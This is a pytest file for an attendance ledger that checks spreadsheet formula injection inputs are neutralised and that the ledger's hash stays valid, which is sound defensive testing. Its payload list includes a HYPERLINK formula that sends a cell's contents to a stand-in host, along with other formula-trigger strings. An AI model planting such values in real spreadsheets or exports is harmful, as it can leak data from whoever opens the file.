"""Spreadsheet formula injection is neutralised in one place, and the hash covers what is stored."""

import csv
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest

from attendance.csv_safety import FORMULA_TRIGGERS, neutralise
from attendance.ledger import AttendanceEntry, Ledger

MORNING = datetime(2024, 5, 1, 14, 0, tzinfo=UTC)

PAYLOADS = [
    ('=HYPERLINK("http://x.example/?"&A1,"Go")', '\'=HYPERLINK("http://x.example/?"&A1,"Go")'),
    ("+1", "'+1"),
    ("-1+1", "'-1+1"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tx", "'\tx"),
    # A carriage return is quoted, then flattened: one record per line keeps torn writes last.
    ("\rx", "' x"),
    ("\n=1+1", "' =1+1"),
]


@pytest.mark.parametrize(("raw", "stored"), PAYLOADS)
def test_neutralise(raw, stored):
    assert neutralise(raw) == stored
    assert neutralise(stored) == stored  # idempotent: stored text never changes again


HARMLESS = ["Asha", "0.4123", "2024-05-01T09:30:00.000-04:00", "", "a=b", "x-1", "'=quoted"]


@pytest.mark.parametrize("harmless", HARMLESS)
def test_harmless_text_is_left_alone(harmless):
    assert neutralise(harmless) == harmless


def test_line_breaks_inside_a_cell_are_flattened():
    assert neutralise("camera broke\r\nused phone") == "camera broke  used phone"


@pytest.mark.parametrize(("raw", "stored"), PAYLOADS)
@pytest.mark.parametrize("column", ["session", "roll_no", "name", "method", "id_check", "reason"])
def test_every_text_column_is_neutralised_in_the_file(tmp_path, raw, stored, column):
    ledger = Ledger(tmp_path, ZoneInfo("Asia/Kolkata"))
    fields = {"session": "S1", "roll_no": "R1", "name": "Asha", "method": "blink", "reason": ""}
    fields[column] = raw
    entry = AttendanceEntry(**fields, recorded_by="kumar")

    row = ledger.append(entry, now=MORNING)

    assert getattr(row, column) == stored
    with open(ledger.day_file(row.moment.date()), newline="") as f:
        table = list(csv.reader(f))
    assert len(table) == 2  # still one physical record per line
    for cell in table[1]:
        assert not cell.startswith(FORMULA_TRIGGERS)
    assert ledger.verify().ok  # the hash covers the stored, neutralised text


def test_negative_utc_offset_in_timestamp_is_not_mangled(tmp_path):
    ledger = Ledger(tmp_path, ZoneInfo("America/New_York"))

    row = ledger.append(AttendanceEntry("S1", "R1", "Asha", "blink", 0.0), now=MORNING)

    assert row.timestamp == "2024-05-01T10:00:00.000-04:00"
    assert row.match_distance == "0.0000"
    assert ledger.verify().ok
